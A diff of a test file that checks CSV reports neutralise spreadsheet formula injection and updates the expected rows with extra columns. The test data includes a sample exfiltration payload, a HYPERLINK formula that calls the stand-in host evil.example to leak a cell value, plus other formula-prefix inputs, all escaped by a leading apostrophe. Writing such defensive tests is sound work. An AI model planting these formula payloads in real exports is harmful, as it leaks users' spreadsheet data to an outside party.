@@ -31,12 +31,12 @@ describe('defect 14: CSV formula injection in the report', () => {
     const rows = h.engine.reportCsv(batchId).trim().split('\n').slice(1);
     expect(rows).toHaveLength(5);
     // The prompt is the second column; the first is a plain file name.
-    expect(rows[0]).toBe(
-      `img-0000.png,"'=HYPERLINK(""http://evil.example/?leak=""&A1,""click"")",queued,,,,`,
-    );
-    expect(rows[1]).toBe(`img-0001.png,'+1+1,queued,,,,`);
-    expect(rows[2]).toBe(`img-0002.png,'-2+3,queued,,,,`);
-    expect(rows[3]).toBe(`img-0003.png,'@SUM(A1:A2),queued,,,,`);
-    expect(rows[4]).toBe(`img-0004.png,'\t=1+1,queued,,,,`);
+    // After the prompt: state, then empty reason/code/provider/request/actual cost, the estimate.
+    const tail = `,queued,,,,,,${items[0]!.estimatedCostUsd},`;
+    expect(rows[0]).toBe(`img-0000.png,"'=HYPERLINK(""http://evil.example/?leak=""&A1,""click"")"${tail}`);
+    expect(rows[1]).toBe(`img-0001.png,'+1+1${tail}`);
+    expect(rows[2]).toBe(`img-0002.png,'-2+3${tail}`);
+    expect(rows[3]).toBe(`img-0003.png,'@SUM(A1:A2)${tail}`);
+    expect(rows[4]).toBe(`img-0004.png,'\t=1+1${tail}`);
   });
 });
